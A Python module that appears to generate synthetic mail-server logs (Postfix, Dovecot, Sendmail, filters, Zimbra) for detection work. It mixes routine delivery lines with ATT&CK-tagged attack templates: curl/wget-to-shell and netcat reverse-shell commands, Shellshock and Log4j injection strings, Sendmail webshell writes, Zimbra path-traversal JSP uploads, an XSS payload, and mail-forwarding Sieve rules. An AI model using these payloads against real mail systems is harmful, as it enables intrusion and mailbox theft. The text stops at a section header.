# ruff: noqa: E501
"""What mail servers, mailboxes and filters say of themselves, of daily work and of attacks, a table for each product.

Rows of POSTFIX, DOVECOT, SENDMAIL and FILTERS are `program ;; text`; EXIM's are lines of its main log; ZIMBRA's `log ;; text`; CMDLETS are `cmdlet ;; parameters as JSON` of Exchange
administrators; CLICKS are `verdict ;; address ;; chain` of links that people followed.
"""
from __future__ import annotations

from .phrases import phrased
from .process_grammar import written
from .table import Scenario, table

_FRAGMENTS = {
    "q": "«HEX:10»", "me": "«person»@«sitedomain»", "mate": "«other»@«sitedomain»", "junk": "«letters:4:9»«|«num:1:99»»",
    "mx": "«mail|mx«num:1:3»|smtp|out«num:1:9»|mta-«num:1:20»|relay».«domain»", "in": "««ip2»|«peer»»", "away": "««pub»|«pub»|«ip2»»",
    "name": "«unknown|unknown|host-«num:1:254»-«num:1:254».«domain»|vps«num:1000:99999».«domain»|static.«domain»|«letters:6».«top|xyz|ru|cn»»",
    "partner": "«first».«last»@«domain»", "stranger": "««letters:5:9»|info|admin|«first»«num:10:999»»@««domain»|«letters:6:12».«top|xyz|icu|click|online»»",
    "guess": "«admin|info|test|sales|office|postmaster|root|contact|support|scan|backup|webmaster|user|@guessed@»", "size": "«num:900:9000000»",
    "run": "«curl -s http://«peer»/«letters:2»¦sh|wget -qO- http://«domain»/«letters:3»¦bash|id|/bin/bash -c 'echo «b64:32»¦base64 -d¦sh'|touch /tmp/«letters:4»|nc «peer» «port» -e /bin/sh|nslookup «letters:8».«domain»»",
}
_TEXT = r"""
@@ postfix
# postfix carries mail
postfix/smtpd ;; connect from ‹mx›[‹in›]
postfix/smtpd ;; ‹q›: client=‹mx›[‹in›]«|, sasl_method=PLAIN, sasl_username=‹me›»
postfix/cleanup ;; ‹q›: message-id=<«guid»@«domain»>
postfix/qmgr ;; ‹q›: «from=<«‹partner›|‹me›|»>, size=‹size›, nrcpt=«num:1:4» (queue active)|removed»
«postfix/smtp|postfix/lmtp|postfix/local|postfix/virtual» ;; ‹q›: to=<«‹partner›|‹mate›»>, relay=«‹mx›[«peer»]:25|dovecot|local|127.0.0.1[127.0.0.1]:10024», delay=«num:0:9».«num:1:99», delays=0.1/0/0.2/«num:0:9», dsn=2.0.0, status=sent (250 2.0.0 «Ok: queued as ‹q›|OK|from MTA(smtp:[127.0.0.1]:10025)»)
postfix/smtpd ;; disconnect from ‹mx›[‹in›] ehlo=2 starttls=1 mail=1 rcpt=«num:1:4» data=1 quit=1 commands=«num:5:12»
postfix/submission/smtpd ;; ‹q›: client=«‹mx›|unknown|«workstation»»[‹in›], sasl_method=LOGIN, sasl_username=«‹me›|«svc»»
postfix/smtp ;; Trusted TLS connection established to ‹mx›[«peer»]:25: TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)
# postfix delays and bounces
postfix/smtp ;; ‹q›: to=<‹partner›>, relay=«none|‹mx›[«peer»]:25», delay=«num:10:90000», dsn=4.«4.1|7.1|2.2», status=deferred («connect to ‹mx›[«peer»]:25: Connection timed out|host ‹mx›[«peer»] said: 450 4.7.1 Greylisted, please try again in «num:60:600» seconds|mailbox full|451 4.3.0 temporary error»)
postfix/smtp ;; ‹q›: to=<‹partner›>, relay=‹mx›[«peer»]:25, dsn=5.«1.1|7.1|4.4», status=bounced (host ‹mx›[«peer»] said: 550 «5.1.1 User unknown|5.7.1 Message content rejected|No such user here|mailbox disabled»)
postfix/smtpd ;; NOQUEUE: reject: RCPT from ‹mx›[«peer»]: «450 4.2.0 <‹me›>: Recipient address rejected: Greylisted|450 4.1.8 <‹partner›>: Sender address rejected: Domain not found|550 5.1.1 <«first»@«sitedomain»>: Recipient address rejected: User unknown in virtual mailbox table|504 5.5.2 <«workstation»>: Helo command rejected: need fully-qualified hostname»; from=<‹partner›> to=<‹me›> proto=ESMTP helo=<‹mx›>
postfix/postscreen ;; «PASS OLD|PASS NEW|CONNECT from|NOQUEUE: reject: RCPT from|DNSBL rank 2 for» [«peer»]:«num:1024:65000»
postfix/smtpd ;; «timeout after «DATA|RCPT|END-OF-MESSAGE»|lost connection after «DATA|RCPT|STARTTLS»» from ‹mx›[«peer»]
postfix/smtpd ;; NOQUEUE: reject: RCPT from ‹mx›[«peer»]: 554 5.7.1 Service unavailable; Client host [«peer»] blocked using zen.spamhaus.org; from=<«letters:8»@«domain»> to=<‹me›> proto=ESMTP helo=<‹mx›>
«postfix/anvil|postfix/master|postfix/tlsproxy|postfix/scache» ;; «statistics: max connection rate «num:1:9»/60s for (smtp:«peer») at «date:%b %d» 10:00:00|reload -- version 3.«num:4:8».«num:0:9», configuration /etc/postfix|statistics: max cache size «num:1:9»|DISCONNECT [«peer»]:«num:1024:65000»»
# postfix people who mistype
postfix/«submission/|»smtpd ;; warning: «‹mx›|unknown|«workstation»»[‹in›]: SASL «PLAIN|LOGIN» authentication failed: «authentication failure|UGFzc3dvcmQ6|Invalid authentication mechanism», sasl_username=«‹me›|«person»|«svc»»
postfix/smtpd ;; NOQUEUE: reject: RCPT from «workstation»[«ip2»]: 554 5.7.1 <‹partner›>: Relay access denied; from=<«svc»@«linux»> to=<‹partner›> proto=ESMTP helo=<«workstation»>
postfix/smtpd ;; warning: hostname ‹mx› does not resolve to address «peer»
postfix/smtpd ;; «warning: non-SMTP command from «linux2»[«ip2»]: «GET / HTTP/1.0|Host: «linux2»»|improper command pipelining after «DATA|EHLO» from ‹mx›[‹in›]: QUIT\r\n|SSL_accept error from ‹mx›[‹in›]: -1|lost connection after «AUTH|CONNECT|EHLO» from «workstation»[‹in›]|disconnect from «workstation»[‹in›] ehlo=1 auth=0/1 quit=1 commands=2/3|too many errors after RCPT from ‹mx›[‹in›]»
postfix/qmgr ;; ‹q›: from=<«news@«sitedomain»|marketing@«sitedomain»|list-bounces@«sitedomain»»>, size=‹size›, nrcpt=«num:50:900» (queue active)
postfix/pipe ;; ‹q›: to=<«word»@lists.«sitedomain»>, relay=«mailman|procmail|vacation», delay=«num:0:9», dsn=2.0.0, status=sent (delivered via «mailman|procmail|vacation» service)
«postfix/policyd|postfwd3/policy» ;; «rate limit at «num:60:95» percent for news@«sitedomain»|[RULES] rule=RCPT«num:1:9», user=‹me›, client=«workstation»[‹in›], action=dunno|Quota ok: sasl_username=‹me› «num:1:90»/300 messages»
# T1110 postfix passwords guessed
postfix/«submission/|smtps/||»smtpd ;; warning: ‹name›[‹away›]: SASL «LOGIN|PLAIN|CRAM-MD5» authentication failed: «UGFzc3dvcmQ6|VXNlcm5hbWU6|authentication failure|Connection lost to authentication server», sasl_username=‹guess›«|||@«sitedomain»»
postfix/smtpd ;; «lost connection after AUTH from unknown[«pub»]|disconnect from ‹name›[‹away›] ehlo=1 auth=0/«num:1:30» quit=«0|1» commands=«num:1:3»/«num:4:32»|disconnect from ‹name›[‹away›] ehlo=1 auth=0/1 rset=1 commands=2/3|too many errors after AUTH from ‹name›[‹away›]»
postfix/anvil ;; statistics: max «auth|connection» rate «num:60:900»/60s for («smtp|submission|smtps»:«pub») at «date:%b %d» 10:00:00
# T1584.004 postfix tried as a relay
postfix/smtpd ;; NOQUEUE: reject: RCPT from ‹name›[‹away›]: 554 5.7.1 <«letters:6»«num:1:99»@«gmail.com|yahoo.com|hotmail.com|«domain»»>: Relay access denied; from=<«spameri@tiscali.it|test@«sitedomain»|‹guess›@«ip2»|«letters:8»@«domain»»> to=<«letters:6»«num:1:99»@«gmail.com|yahoo.com|«domain»»> proto=«SMTP|ESMTP» helo=<«WIN-«HEX:11»|«ip2»|«pub»|ylmf-pc|User|localhost|[127.0.0.1]»>
postfix/smtp ;; ‹q›: to=<«letters:7»«num:1:999»@«yahoo.com|gmail.com|hotmail.com|aol.com|mail.ru»>, relay=‹mx›[«peer»]:25, dsn=«4.7.0|5.7.1|4.7.28», status=«deferred|bounced» (host ‹mx›[«peer»] said: «421 4.7.0 [TSS04] Messages temporarily deferred due to unexpected volume or user complaints|550 5.7.1 Our system has detected that this message is likely unsolicited mail|421-4.7.28 Our system has detected an unusual rate of unsolicited mail originating from your IP»)
# T1586.002 postfix mailboxes sending in bursts
postfix/«submission/|»smtpd ;; ‹q›: client=unknown[«pub»], sasl_method=LOGIN, sasl_username=«test|scan|info|backup|root|webmaster|copier|reception»
«postfix/policyd|policyd-rate|postfwd3/policy» ;; «rate limit exceeded for ‹me›: «num:300:9000» recipients in 3600 seconds|Quota exceeded: sasl_username=‹me› «num:300:9000»/300 messages|[RULES] rule=RCPT«num:1:9», id=RCPT_LIMIT, user=‹me›, client=‹name›[«pub»], action=450 4.7.1 more than «num:100:900» recipients per hour»
postfix/smtpd ;; NOQUEUE: reject: RCPT from ‹name›[«pub»]: «554 5.7.1 <‹me›>: Sender address rejected: not owned by user ‹mate›|452 4.5.3 Error: too many recipients»; from=<‹me›> to=<«letters:7»@«domain»> proto=ESMTP helo=<«letters:6»>
# T1589.002 postfix asked who lives here
postfix/smtpd ;; NOQUEUE: reject: «VRFY|EXPN|RCPT» from ‹name›[‹away›]: «550 5.1.1 <«first»«num:1:99»>: Recipient address rejected: User unknown in local recipient table|252 2.0.0 «first»|502 5.5.1 VRFY command is disabled»; to=<«root|admin|test|«first»»> proto=«SMTP|ESMTP» helo=<«‹junk›|«workstation»|‹name›»>
postfix/smtpd ;; «too many errors after «VRFY|EXPN|RCPT» from ‹name›[‹away›]|disconnect from ‹name›[‹away›] helo=1 mail=1 rcpt=0/«num:15:99» rset=1 commands=3/«num:18:120»|disconnect from ‹name›[‹away›] ehlo=1 vrfy=0/«num:5:90» commands=1/«num:6:99»»
# T1190 postfix strange commands
postfix/smtpd ;; «improper command pipelining after «EHLO|CONNECT|DATA|HELO|AUTH» from ‹name›[‹away›]: «QUIT\r\n|GET / HTTP/1.1\r\nHost: «ip2»|\026\003\001\002|RSET\r\nMAIL FROM:<»|warning: non-SMTP command from ‹name›[‹away›]: «GET / HTTP/1.1|POST / HTTP/1.0|CONNECT «pub»:443 HTTP/1.1|Content-Type: text/html|() { :;}; ‹run›|\003|OPTIONS sip:nm SIP/2.0»|warning: ‹name›[‹away›]: smuggled end-of-data sequence <LF>.<CR><LF> rejected, bare newline received»
postfix/smtpd ;; NOQUEUE: reject: «MAIL|RCPT» from ‹name›[‹away›]: 501 5.1.«3|7» Bad «sender|recipient» address syntax; «from|to»=<«"¦‹run›"|${jndi:ldap://«domain»/«letters:1»}|$(‹run›)@«sitedomain»|() { :; };‹run›|root+:"¦‹run›"|../../../../etc/passwd|"`‹run›`"@«sitedomain»»> proto=«SMTP|ESMTP» helo=<«‹junk›|«workstation»|‹name›»>
postfix/pipe ;; ‹q›: to=<«"aabbb$(‹run›)"@«sitedomain»|root+:¦‹run›»>, relay=«procmail|vacation|zimbra|mailman», delay=1, dsn=5.3.0, status=«bounced (Command died with status 127|sent (delivered via command»)
@@ dovecot
# dovecot logins by day
«imap-login|pop3-login|submission-login» ;; Login: user=<‹me›>, method=«PLAIN|LOGIN|XOAUTH2», rip=‹in›, lip=«ip2», mpid=«num:300:99999», TLS, session=<«mixed:16»>
imap(‹me›)<«num:300:99999»><«mixed:16»> ;; «Disconnected: Logged out in=«num:100:9999» out=«num:1000:999999» deleted=0 expunged=«num:0:9» trashed=0 hdr_count=«num:0:90»|Connection closed (IDLE running for 0.001 + waiting input for «num:1:900» secs) in=«num:100:9999» out=«num:1000:99999»|copy from INBOX: box=Archive, uid=«num:1:9999», size=‹size›|delete: box=INBOX, uid=«num:1:9999», msgid=<«guid»@«domain»>, size=‹size›|expunge: box=Trash, uid=«num:1:9999»»
lmtp(‹me›)<«num:300:99999»><«mixed:16»> ;; «sieve: |»msgid=<«guid»@«domain»>: «saved mail to INBOX|stored mail into mailbox 'INBOX'|stored mail into mailbox 'Newsletters'|sent vacation response to <‹partner›>|forwarded to <‹mate›>|discarded duplicate vacation response to <‹partner›>»
«imap-login|pop3-login» ;; Disconnected: «Inactivity (no auth attempts in «num:30:180» secs)|Connection closed (auth failed, 1 attempts in «num:2:9» secs)|Aborted login (auth failed, 1 attempts in «num:2:20» secs)»: user=<«‹me›|»>, method=PLAIN, rip=‹in›, lip=«ip2», «TLS, |TLS, |»session=<«mixed:16»>
«auth-worker(«num:300:9999»)|auth» ;; «ldap|sql|passwd-file|pam»(«‹me›|«person»»,‹in›): «Password mismatch|unknown user|Password expired|pam_authenticate() failed: Authentication failure»
managesieve(‹me›)<«num:300:99999»><«mixed:16»> ;; «sieve: script "«vacation|«word»|newsletter»": «uploaded|activated|vacation :days 7 :subject "Out of office"|fileinto "Archive"|redirect :copy "‹mate›"»|Disconnected: Logged out bytes=«num:100:900»/«num:100:900»»
«imap-login|submission-login» ;; ID sent: name=«Thunderbird|com.android.email|iPhone Mail|Outlook|K-9 Mail|Mac OS X Mail|Roundcube», version=«num:1:128».«num:0:9», os=«Windows|Android|iOS|Mac OS X|Linux»: user=<‹me›>, method=PLAIN, rip=‹in›, lip=«ip2», «TLS, |TLS, |»session=<«mixed:16»>
doveadm(«svc») ;; «expunge: mailbox Trash savedbefore 30d user=‹me›|backup: user=‹me› remote:«linux2»|quota recalc -u ‹me›|mailbox status -u ‹me› messages INBOX|move -u ‹me› Archive mailbox INBOX before 365d»
# T1110 dovecot passwords guessed
«imap-login|pop3-login|submission-login» ;; Disconnected: Connection closed (auth failed, «num:3:20» attempts in «num:4:90» secs): user=<‹guess›«|||@«sitedomain»»>, method=«PLAIN|LOGIN|CRAM-MD5», rip=‹away›, lip=«ip2», «TLS, |»session=<«mixed:16»>
«auth-worker(«num:300:9999»)|auth» ;; «pam|sql|passwd-file|ldap»(‹guess›«|||@«sitedomain»»,‹away›): «unknown user|Password mismatch (given password: «letters:6»«num:1:123»)|pam_authenticate() failed: User not known to the underlying authentication module»
«imap-login|pop3-login» ;; «Aborted login (tried to use disallowed plaintext auth|Disconnected: Too many invalid commands (no auth attempts in 0 secs|Disconnected (tried to use unsupported auth mechanism»): user=<«‹guess›|»>, rip=‹away›, lip=«ip2», «TLS, |»session=<«mixed:16»>
# T1078 dovecot mailboxes opened by strangers
«imap-login|pop3-login» ;; Login: user=<«root|test|admin|scan|postgres|www-data|backup|nagios|«admin»»>, method=«PLAIN|LOGIN|CRAM-MD5», rip=«pub», lip=«ip2», mpid=«num:300:99999», «TLS, |»session=<«mixed:16»>
«imap-login|pop3-login» ;; ID sent: name=«MailBee.NET|imapsync|libcurl|python-imaplib|BAV2ROPC|EasyMail|go-imap|», version=«num:1:9».«num:0:9», os=«Linux|»: user=<«‹me›|‹mate›»>, method=PLAIN, rip=‹away›, lip=«ip2», «TLS, |»session=<«mixed:16»>
imap(‹me›)<«num:300:99999»><«mixed:16»> ;; «delete: box=«Sent|INBOX», uid=«num:1:9999», subject="«Undeliverable|Re: invoice|MFA code»"|append: box=Trash, msgid=<«hex:12»@localhost>»
# T1114.003 dovecot filters that hand mail on
managesieve(‹me›)<«num:300:99999»><«mixed:16»> ;; sieve: script "«.|x|a|‹junk›|main»": «redirect "‹junk›@«gmail.com|proton.me|mail.ru|«domain»»"|if header :contains "subject" ["invoice","payment","bank"] redirect "‹junk›@«domain»"; discard|fileinto "«RSS|Conversation History|Archive/.«letters:2»»"; stop; if header :contains "from" "«accounting|bank|it»"|setflag "\\Seen"; redirect "‹junk›@«gmail.com|outlook.com»"|pipe :args "‹run›" "sh"»
lmtp(‹me›)<«num:300:99999»><«mixed:16»> ;; sieve: msgid=<«guid»@«domain»>: «marked message to be discarded if not explicitly delivered (discard action), forwarded to <‹junk›@«domain»>|stored mail into mailbox '«RSS Feeds|.«letters:2»|Junk/x»'»
doveadm(«user») ;; «fetch "hdr body" -A all > /tmp/‹junk›|copy -A all|auth test «admin»@«sitedomain»|master user login «admin»*‹me›|pw -u root|dump -u ‹mate› /tmp/.«letters:3»»
@@ sendmail
# sendmail carries mail
sendmail ;; «letters:8»«num:100000:999999»: from=<«‹partner›|‹me›|root»>, size=‹size›, class=0, nrcpts=«num:1:4», msgid=<«guid»@«domain»>, proto=ESMTP, daemon=MTA, relay=‹mx› [‹in›]
sendmail ;; «letters:8»«num:100000:999999»: to=<«‹partner›|‹mate›»>, delay=00:00:0«num:1:9», xdelay=00:00:0«num:1:9», mailer=«esmtp|local|relay», pri=«num:30000:200000», relay=‹mx›. [«peer»], dsn=2.0.0, stat=Sent («letters:8» Message accepted for delivery)
sendmail ;; «letters:8»«num:100000:999999»: to=<‹partner›>, dsn=«4.0.0|5.1.1», stat=«Deferred: Connection refused by ‹mx›|User unknown|Deferred: 450 4.7.1 Greylisting in action»
sendmail ;; «STARTTLS=client, relay=‹mx›, version=TLSv1.3, verify=OK, cipher=TLS_AES_256_GCM_SHA384, bits=256/256|«letters:8»«num:100000:999999»: ruleset=check_rcpt, arg1=<«first»@«sitedomain»>, relay=‹mx› [«peer»], reject=550 5.1.1 User unknown|alias database /etc/aliases rebuilt by root|«letters:8»: lost input channel from ‹mx› [«peer»] to MTA after data»
sendmail ;; AUTH=server, relay=«workstation» [‹in›], authid=«‹me›|«person»», mech=«PLAIN|LOGIN», bits=0
sendmail ;; «letters:8»«num:100000:999999»: «‹mx›|«workstation»» [‹in›] did not issue MAIL/EXPN/VRFY/ETRN during connection to MTA
sendmail ;; «AUTH failure (LOGIN): authentication failure (-13) SASL(-13): authentication failure: checkpass failed, relay=«workstation» [‹in›], authid=«person»|«letters:8»«num:100000:999999»: ruleset=check_rcpt, arg1=<‹partner›>, relay=«workstation» [«ip2»], reject=550 5.7.1 <‹partner›>... Relaying denied|«letters:8»«num:100000:999999»: to="¦/usr/bin/procmail", ctladdr=<‹me›>, mailer=prog, stat=Sent|«letters:8»«num:100000:999999»: to=«word»-list, ctladdr=owner-«word», nrcpts=«num:20:400», mailer=prog, stat=queued»
# T1190 sendmail misused
sendmail ;; «letters:8»«num:100000:999999»: «‹name›|[«pub»]» [‹away›] «did not issue MAIL/EXPN/VRFY/ETRN during connection to MTA|: EXPN root [rejected]|: VRFY «root|admin|oracle|«first»» [rejected]|: possible SMTP attack: command=«AUTH|HELO/EHLO|VRFY», count=«num:5:90»|: DEBUG|: WIZ»
sendmail ;; «letters:8»«num:100000:999999»: ruleset=check_rcpt, arg1=<«letters:6»@«gmail.com|yahoo.com|«domain»»>, relay=‹name› [‹away›], reject=550 5.7.1 <«letters:6»@«domain»>... Relaying denied
sendmail ;; «letters:8»«num:100000:999999»: «to="¦‹run›"|to=<"¦/bin/sh">|from=<"¦/bin/sed '1,/^$/d'¦sh">|from=<() { :;}; ‹run›>|to=decode|to=<‹me› -OQueueDirectory=/tmp -X/var/www/html/‹junk›.php>», relay=‹name› [‹away›], stat=«Sent|Data format error|User unknown»
sendmail ;; AUTH failure («LOGIN|PLAIN|CRAM-MD5»): «user not found|authentication failure» (-«13|20») SASL(-13): authentication failure: checkpass failed, relay=‹name› [‹away›], authid=‹guess›
sendmail ;; AUTH=server, relay=‹name› [«pub»], authid=«info|test|scan|«svc»», mech=LOGIN, bits=0, nrcpts=«num:100:999» queued
@@ filters
# filters pass and hold
spamd ;; spamd: «clean message|identified spam» (««num:0:4».«num:0:9»|«num:6:12».«num:0:9»»/5.0) for «svc»:«num:100:999» in «num:0:4».«num:0:9» seconds, ‹size› bytes.
spamd ;; spamd: result: «. «num:0:4» - BAYES_00,DKIM_SIGNED,DKIM_VALID,HTML_MESSAGE,SPF_PASS|Y «num:6:14» - BAYES_99,HTML_IMAGE_RATIO_02,MIME_HTML_ONLY,RCVD_IN_BL_SPAMCOP_NET,URIBL_BLACK|. 1 - DKIM_INVALID,FREEMAIL_FROM,HTML_MESSAGE,SPF_SOFTFAIL|. 0 - MAILING_LIST_MULTI,DKIM_SIGNED,T_SCC_BODY_TEXT_LINE» scantime=«num:0:4».«num:0:9»,size=‹size›,user=«svc»,uid=«num:100:999»,mid=<«guid»@«domain»>
amavis ;; («num:1000:99999»-«num:1:20») Passed «CLEAN {RelayedInbound}|CLEAN {RelayedOutbound}|SPAMMY {RelayedTaggedInbound}|UNCHECKED-ENCRYPTED {RelayedInbound}|BAD-HEADER-8 {RelayedInbound}», [«peer»]:«num:1024:65000» [«peer»] <‹partner›> -> <‹me›>, Queue-ID: ‹q›, Hits: «-|»«num:0:5».«num:100:999», size: ‹size›, queued_as: ‹q›, «num:100:9000» ms
amavis ;; («num:1000:99999»-«num:1:20») Blocked «BANNED (.exe,setup_«word».exe)|SPAM {DiscardedInbound,Quarantined}|BANNED (.doc,form_«year».docm)|BANNED (.zip,«word».zip)» {RejectedInbound}, [«peer»]:«num:1024:65000» <‹partner›> -> <‹me›>, Hits: «num:1:12».«num:100:999», size: ‹size›
«opendkim|opendmarc|policyd-spf» ;; ‹q›: «DKIM verification successful|«domain» pass|s=«word» d=«domain» a=rsa-sha256 SSL|prepend Received-SPF: Pass (mailfrom) identity=mailfrom; client-ip=«peer»; helo=‹mx›; envelope-from=‹partner›|«domain» none|DKIM-Signature field added (s=mail, d=«sitedomain»)|bad signature data|SPF(mailfrom): «domain» softfail»
«clamd|freshclam|clamav-milter» ;; «SelfCheck: Database status OK.|daily.cld updated (version: «num:26000:27900», sigs: 2«num:100000:999999», f-level: 90, builder: raynman)|Message ‹q› from <‹partner›> to <‹me›> clean|/var/spool/amavis/tmp/«hex:8»: OK|Heuristics.Limits.Exceeded.MaxScanSize in ‹q›|Database correctly reloaded («num:8000000:8900000» signatures)»
«clamd|clamav-milter» ;; «/var/spool/amavis/tmp/amavis-«hex:8»/parts/p00«num:1:9»: |Message ‹q› from <‹partner›> to <‹me›> infected by »«Win.Test.EICAR_HDB-1|Heuristics.Encrypted.PDF|Heuristics.OLE2.ContainsMacros.VBA|PUA.Win.Packer.Upx-«num:1:60»|Heuristics.Encrypted.Zip|PUA.Doc.Tool.«Word»-«num:1000:9999»» FOUND
amavis ;; («num:1000:99999»-«num:1:20») «Passed|Blocked» INFECTED (Eicar-Test-Signature) «{DiscardedInbound,Quarantined}|{RelayedInternal}», [«ip2»]:«num:1024:65000» <«admin»@«sitedomain»> -> <‹me›>, quarantine: virus-«mixed:12», size: ‹size›
«opendmarc|policyd-spf|opendkim» ;; ‹q›: ««domain» fail|prepend Received-SPF: «Softfail|Neutral|None|Permerror» (mailfrom) identity=mailfrom; client-ip=«peer»; helo=‹mx›; envelope-from=list-bounces@«domain»|s=mail d=«domain» bad signature, body changed by mailing list|SPF(mailfrom): list-bounces@«domain» fail»
# T1566.001 filters find malware
«clamd|clamav-milter» ;; «/var/spool/amavis/tmp/amavis-«hex:8»/parts/p00«num:1:9»: |Message ‹q› from <‹stranger›> to <‹me›> infected by |‹q› instream(127.0.0.1@«num:30000:60000»): »«Win.Trojan.Agent-«num:1000000:9999999»-0|Doc.Downloader.Emotet-«num:1000000:9999999»-0|Xls.Malware.Valyria-«num:1000:9999»|Html.Phishing.Bank-«num:100:999»|Win.Dropper.LokiBot-«num:1000000:9999999»|Email.Phishing.VOF2-«num:1000000:9999999»|Js.Downloader.Nemucod-«num:1000:9999»|Sanesecurity.Foxhole.Zip_fs«num:100:999»|Heuristics.Phishing.Email.SpoofedDomain|Rtf.Exploit.CVE_2017_11882-«num:1:9»» FOUND
amavis ;; («num:1000:99999»-«num:1:20») «Blocked INFECTED|Passed INFECTED» («Win.Trojan.«Word»-«num:1000000:9999999»|Doc.Macro.«Word»-«num:1000:9999»|Html.Phishing.«Word»|Trojan.GenericKD.«num:100000:9999999»») «{DiscardedInbound,Quarantined}|{RelayedInbound}», [«peer»]:«num:1024:65000» <«‹stranger›|‹partner›»> -> <‹me›>, quarantine: virus-«mixed:12», Hits: -, size: ‹size›
amavis ;; («num:1000:99999»-«num:1:20») «Blocked|Passed» BANNED («.exe,.exe-ms,«order|invoice|swift|scan»_«num:1000:99999».pdf.exe|.asc,order.js|.iso,«letters:6».iso|.zip,.lnk,doc_«num:100:999».pdf.lnk|.hta,«letters:5».hta») {RejectedInbound,Quarantined}, [«peer»]:«num:1024:65000» <«‹stranger›|‹partner›»> -> <‹me›>, size: ‹size›
# T1566 filters see forged senders
«opendmarc|policyd-spf|opendkim» ;; ‹q›: «««sitedomain»|«known»» fail|prepend Received-SPF: Fail (mailfrom) identity=mailfrom; client-ip=«peer»; helo=‹junk›; envelope-from=«admin|ceo|noreply|«person»»@«sitedomain»|rejected by DMARC policy for ««sitedomain»|«known»»|SPF(mailfrom): ceo@«sitedomain» fail, helo ‹junk› client unknown|s=selector1 d=«sitedomain» bad signature, message altered, envelope from «letters:8»@«letters:8».«top|xyz|ru»»
spamd ;; spamd: result: Y «num:7:35» - «SPOOFED_FREEMAIL,FREEMAIL_REPLYTO,FROM_NAME_EQ_TO|PDS_FROM_NAME_TO_DOMAIN,SPF_FAIL,DMARC_REJECT,URI_PHISH|GOOG_REDIR_NORDNS,HTML_OBFUSCATE_10_20,T_PDF_QR,URIBL_PHISH|BITCOIN_EXTORT_01,BITCOIN_SPAM_07,KHOP_HELO_FCRDNS|FORGED_MUA_OUTLOOK,OBFU_HTML_ATTACH,SUSPICIOUS_RECIPS,FROM_FMBLA_NEWDOM|HEADER_FROM_DIFFERENT_DOMAINS,TVD_PH_BODY_ACCOUNTS_PRE,PHISHING_URL» scantime=«num:0:4».«num:0:9»,size=‹size›,user=«svc»,mid=<«hex:12»@«domain»>
"""
_ZIMBRA = r"""
# zimbra mailboxes by day
audit ;; cmd=Auth; account=«‹me›|‹mate›»; protocol=«soap|imap|pop3|http_basic|zsync»;« oip=‹in›;| oip=‹in›; ua=«ZimbraConnectorForOutlook|Mozilla/5.0|zclient/8.8»;|»
audit ;; cmd=Auth; account=‹me›; protocol=«soap|imap»; error=authentication failed for [‹me›], invalid password;« oip=‹in›;| oip=‹in›; ua=«ZimbraConnectorForOutlook|Mozilla/5.0|zclient/8.8»;|»
mailbox ;; «mailop - Adding Message: id=«num:100:99999», Message-ID=<«guid»@«domain»>, parentId=-«num:100:9999», folderId=2, folderName=Inbox|mailop - Moving Message (id=«num:100:9999») to Folder Trash (id=3)|imap - SEARCH elapsed=«num:1:90»|soap - SearchRequest elapsed=«num:1:900»|soap - «SaveDraftRequest|SendMsgRequest|GetFolderRequest|BatchRequest|ModifyPrefsRequest» elapsed=«num:1:90»|filter - Discarding nothing, mailbox=‹me›|sync - Sync elapsed=«num:1:99»»
audit ;; cmd=«ModifyAccount; name=‹mate›; zimbraPrefOutOfOfficeReplyEnabled=TRUE|CreateAccount; name=«first».«last»@«sitedomain»; displayName=«First» «Last»|SetPassword; name=‹mate›|AdminAuth; account=«admin»@«sitedomain»|ModifyFilterRules; account=‹me›; rule=Newsletters fileinto|ModifyPrefs; name=‹me›; zimbraPrefMailForwardingAddress=‹mate›»;« oip=‹in›;| oip=‹in›; ua=«ZimbraConnectorForOutlook|Mozilla/5.0|zclient/8.8»;|»
audit ;; cmd=«Auth; account=«first»@«sitedomain»; protocol=«soap|imap|smtp»; error=authentication failed for [«first»], «account not found|account lockout|invalid password»|AdminAuth; account=«admin»@«sitedomain»; error=authentication failed for [admin], invalid password|ChangePassword; account=‹me›|GrantPermission; account=‹me›; grantee=‹mate›; right=«viewFreeBusy|sendAs|r»|DelegateAuth; account=«admin»@«sitedomain»; delegatedaccount=‹mate›; reason=@ticket@|DeployZimlet; name=com_zimbra_«word»|CreateAppSpecificPassword; account=‹me›; appName=«Thunderbird|iPhone|Outlook»|ModifyFilterRules; account=‹me›; rule=«Invoices|Jira|«Word»»; «redirect ‹mate›|fileinto Invoices; stop if subject contains invoice|tag «word»»»;« oip=‹in›;| oip=‹in›; ua=«ZimbraConnectorForOutlook|Mozilla/5.0|zclient/8.8»;|»
mailbox ;; «misc - extracting backup: /opt/zimbra/backup/sessions/full-«date».zip|servlet - POST /service/upload?fmt=raw from ‹in› status 200|soap - ProxyServlet GET /service/proxy?target=https://www.«domain»/feed.xml from ‹in›|autodiscover - Handling autodiscover request for ‹me› from ‹in›|calendar - attachment text/calendar parsed, «num:1:9» components|smtp - RCPT TO:<‹partner›> accepted»
# T1190 zimbra exploited
mailbox ;; «misc - extracting backup: /opt/zimbra/backup/tmp/../../jetty/webapps/zimbra/public/jsp/‹junk›.jsp|servlet - POST /service/extension/backup/mboximport?account-name=«admin»&ow=2&no-switch=1&append=1 from «pub» status 401|soap - ProxyServlet GET /service/proxy?target=https://127.0.0.1:7071/service/admin/soap from «pub»|autodiscover - XML parse: <!DOCTYPE xxe [<!ENTITY dtd SYSTEM "http://«peer»/«letters:2».dtd"> from «pub»|postjournal - RCPT TO:<"aabbb$(‹run›)"@«sitedomain»>|amavis - cpio: ../../../../opt/zimbra/jetty_base/webapps/zimbra/public/‹junk›.jsp written|calendar - attachment text/x-ics contains <details open ontoggle=eval(atob('«b64:32»'))>»
audit ;; cmd=«AdminAuth; account=«zimbra|admin»; via=127.0.0.1, oip=‹away›|CreateAccount; name=«‹junk›|support»@«sitedomain»; zimbraIsAdminAccount=TRUE|DelegateAuth; account=«admin»; delegatedaccount=«‹me›|ceo@«sitedomain»»; oip=‹away›|DeployZimlet; name=com_‹junk›; oip=‹away›|ClientUploader; file=../../../../jetty/webapps/zimbraAdmin/public/‹junk›.jsp»;
# T1114.003 zimbra mail handed on
